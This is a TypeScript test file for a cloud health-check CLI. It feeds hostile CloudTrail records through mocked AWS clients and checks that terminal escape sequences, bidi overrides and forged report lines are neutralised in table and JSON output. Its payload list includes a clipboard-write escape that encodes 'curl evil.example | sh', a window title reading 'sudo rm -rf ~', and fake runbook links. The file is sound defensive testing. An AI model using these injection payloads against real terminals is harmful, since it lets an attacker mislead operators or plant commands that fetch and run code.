/**
 * Attack: terminal escapes. Anyone with a token of an OIDC provider registered in the account chooses the `sub`
 * CloudTrail logs for their denied AssumeRoleWithWebIdentity call, and the role ARN, User-Agent and so the
 * record's free text. `tmc-health check` showed them raw: ESC sequences (CSI erase, OSC 0 window title, OSC 52
 * clipboard write, OSC 8 link), C1 controls (U+009B CSI and U+009D OSC act alone in many terminals), DEL, bidi
 * overrides and isolates that reorder what the engineer reads, zero-width characters, and line breaks that forge
 * lines of the report; `--json` passed C1, bidi and format characters through.
 *
 * Entry: the CLI (runCli, the real createAwsRunCheck, adapters and evaluation) with aws-sdk-client-mock
 * answering STS, CloudTrail LookupEvents (the hostile record) and IAM. Bound: 0 control, bidi or format
 * characters in what the CLI prints, in the table (wide, narrow, coloured) and in `--json`; the JSON still parses,
 * gives back the caller's values exactly, and the table still shows a recognisable form of them.
 */
import { CloudTrailClient, LookupEventsCommand } from '@aws-sdk/client-cloudtrail';
import {
  GetRoleCommand,
  IAMClient,
  ListOpenIDConnectProvidersCommand,
  NoSuchEntityException,
} from '@aws-sdk/client-iam';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import type { JsonReport } from '../../lambdas/cli/render-json';
import { createAwsRunCheck } from '../../lambdas/cli/run-check';
import { harness } from '../cli/support';
import { ACCOUNT, lookupEvent } from '../fixtures/irsa';

const sts = mockClient(STSClient);
const cloudtrail = mockClient(CloudTrailClient);
const iam = mockClient(IAMClient);

const REGION = 'us-west-2';
const GITHUB = 'token.actions.githubusercontent.com';
const GITHUB_PROVIDER_ARN = `arn:aws:iam::${ACCOUNT}:oidc-provider/${GITHUB}`;

/**
 * What must never reach the terminal, listed here by code point (not taken from the sanitizer under test): C0
 * but LF, DEL and C1, the soft hyphen, Arabic letter mark, Mongolian vowel separator, zero-width characters and
 * directional marks, line and paragraph separators, bidi embeddings/overrides/isolates, word joiner and the
 * invisible operators, BOM, interlinear annotation controls, tag characters, lone surrogates.
 */
const FORBIDDEN =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|\udb40[\udc00-\udc7f]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
/** The attacker's words at a column where the report's own lines start. */
const FORGED_AT_REPORT_COLUMN = /^(| {3}| {4})(RESOLVED - no action needed|Runbook: https:\/\/evil)/m;
/** Our own colour codes (SGR), the only escape sequences a coloured report may carry. */
// eslint-disable-next-line no-control-regex
const OWN_SGR = /\u001b\[[0-9;]*m/g;

/** The sequences a hostile caller would use, each a fragment of the generated values. */
const HOSTILE_FRAGMENTS = [
  '\u001b[2J', // CSI: erase the screen
  '\u001b[1A\u001b[2K', // cursor up, erase the line: overwrite the line above
  '\u001b]0;sudo rm -rf ~\u0007', // OSC 0: window title
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u0007', // OSC 52: write the clipboard
  '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', // OSC 8: a hyperlink
  '\u001b[8m', // SGR conceal: hide what follows
  '\u009b2J', // C1 CSI
  '\u009d0;title\u009c', // C1 OSC ... ST
  '\u007f',
  '\u202e', // right-to-left override
  '\u2066', // left-to-right isolate
  '\u200b', // zero-width space
  '\ufeff', // byte order mark
  '\u2028', // line separator
  '\r\nRESOLVED - no action needed',
  '\nRunbook: https://evil.example',
  '\u0008\u0008\u0008', // backspaces
  '\ud800', // a lone surrogate
  '\udb40\udc41', // a tag character
];

const hostile = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE_FRAGMENTS), fc.string({ maxLength: 8 })), {
    minLength: 1,
    maxLength: 12,
  })
  .map((parts) => parts.join(''));

interface Caller {
  readonly subject: string;
  readonly roleName: string;
  readonly userAgent: string;
  readonly errorMessage: string;
}

/** The same fixed value in every field: each named sequence at once. */
const EVERYTHING = HOSTILE_FRAGMENTS.join('x');

function answer(caller: Caller): void {
  sts.reset();
  cloudtrail.reset();
  iam.reset();
  sts.on(GetCallerIdentityCommand).resolves({ Account: ACCOUNT, Arn: `arn:aws:iam::${ACCOUNT}:user/dev` });
  const record = lookupEvent({
    eventTime: new Date(Date.now() - 5 * 60_000).toISOString(),
    subject: `repo:attacker/evil:${caller.subject}`,
    roleArn: `arn:aws:iam::${ACCOUNT}:role/${caller.roleName}`,
    identityProvider: GITHUB_PROVIDER_ARN,
    userAgent: caller.userAgent,
    errorMessage: caller.errorMessage,
  });
  cloudtrail.on(LookupEventsCommand).resolves({ Events: [record] });
  iam.on(ListOpenIDConnectProvidersCommand).resolves({ OpenIDConnectProviderList: [] });
  iam.on(GetRoleCommand).rejects(new NoSuchEntityException({ message: 'no such role', $metadata: {} }));
}

async function cli(env: Record<string, string>, ...flags: string[]) {
  const run = harness({ env, runCheck: createAwsRunCheck({ maxAttempts: 1 }) });
  await run.run('check', '--checks', 'irsa', '--region', REGION, '--since', '30m', ...flags);
  return run;
}

function expectClean(text: string, where: string): void {
  const match = FORBIDDEN.exec(text);
  if (match) {
    const at = match.index;
    throw new Error(
      `${where}: U+${match[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${at}: ` +
        JSON.stringify(text.slice(Math.max(0, at - 40), at + 40)),
    );
  }
}

async function attack(caller: Caller): Promise<void> {
  answer(caller);
  const subject = `repo:attacker/evil:${caller.subject}`;
  for (const [label, env] of [
    ['wide table', { COLUMNS: '160' }],
    ['narrow (stacked) table', { COLUMNS: '50' }],
    ['coloured table', { COLUMNS: '120', FORCE_COLOR: '1' }],
  ] as const) {
    const run = await cli(env);
    const out = run.stdout.text.replace(OWN_SGR, '');
    expect(out).toContain('attacker/evil');
    expectClean(out, `${label}, stdout`);
    expectClean(run.stderr.text.replace(OWN_SGR, ''), `${label}, stderr`);
    // The caller's own line breaks are shown as escapes, never as line breaks: wherever a value had one, the
    // output has the two characters `\n`.
    if (caller.subject.includes('\nRunbook:')) expect(out.replace(/\n\s*/g, '')).toContain('\\nRunbook:');
    // And where the layout wraps a value, the wrapped lines hang further in: none starts where the report's own
    // lines do (headings and rows at 0, `Runbook:` and the other remediation lines at 3, stacked fields at 4).
    expect(out).not.toMatch(FORGED_AT_REPORT_COLUMN);
  }
  const json = await cli({}, '--json');
  expectClean(json.stdout.text, '--json');
  const report = JSON.parse(json.stdout.text) as JsonReport;
  // The values are the caller's, exactly: escaped in the text, not changed.
  const denial = report.findings.find((finding) => finding.irsa?.serviceAccount === subject);
  expect(denial).toBeDefined();
  expect(denial!.resource.arn).toBe(`arn:aws:iam::${ACCOUNT}:role/${caller.roleName}`);
  expect(denial!.evidence.userAgents).toEqual([caller.userAgent]);
}

beforeAll(() => {
  sts.reset();
});

describe('terminal escapes in a denied call reach the CLI output as harmless text', () => {
  test('every named sequence at once, in the sub, the role ARN, the User-Agent and the error message', async () => {
    await attack({
      subject: EVERYTHING,
      roleName: EVERYTHING,
      userAgent: EVERYTHING,
      errorMessage: EVERYTHING,
    });
    // Recognisable: each sequence is shown by its escape.
    const run = await cli({ COLUMNS: '400' }, '--checks', 'irsa');
    const out = run.stdout.text.replace(/\n\s*/g, '');
    for (const escape of [
      '\\u001b[2J',
      '\\u001b]52;c;',
      '\\u009b2J',
      '\\u202e',
      '\\u2066',
      '\\u200b',
      '\\ufeff',
    ]) {
      expect(out).toContain(escape);
    }
  });

  test('--json alone: escapes in the text, the exact values once parsed', async () => {
    answer({ subject: EVERYTHING, roleName: 'deploy', userAgent: EVERYTHING, errorMessage: EVERYTHING });
    const json = await cli({}, '--json');
    expectClean(json.stdout.text, '--json');
    const report = JSON.parse(json.stdout.text) as JsonReport;
    const denial = report.findings.find((finding) => finding.irsa !== undefined);
    expect(denial!.irsa!.serviceAccount).toBe(`repo:attacker/evil:${EVERYTHING}`);
    expect(json.stdout.text).toContain('\\u202e');
  });

  test('a value padded with spaces so that the layout would wrap the attacker words to a line start', async () => {
    for (let pad = 0; pad < 30; pad += 1) {
      const words = `${'x '.repeat(pad)}Runbook: https://evil.example/fix`;
      answer({ subject: words, roleName: 'deploy', userAgent: words, errorMessage: words });
      for (const columns of ['50', '100']) {
        const run = await cli({ COLUMNS: columns });
        expect(run.stdout.text).toContain('evil.example');
        expect(run.stdout.text).not.toMatch(FORGED_AT_REPORT_COLUMN);
      }
    }
  });

  test('generated hostile values (fast-check)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.record({ subject: hostile, roleName: hostile, userAgent: hostile, errorMessage: hostile }),
        async (caller) => {
          // CloudTrail keeps only non-blank strings; the parser skips the rest (not this test's concern).
          fc.pre(caller.userAgent.trim() !== '' && caller.errorMessage.trim() !== '');
          await attack(caller);
        },
      ),
      { numRuns: 25, seed: 20261207 },
    );
  });
});
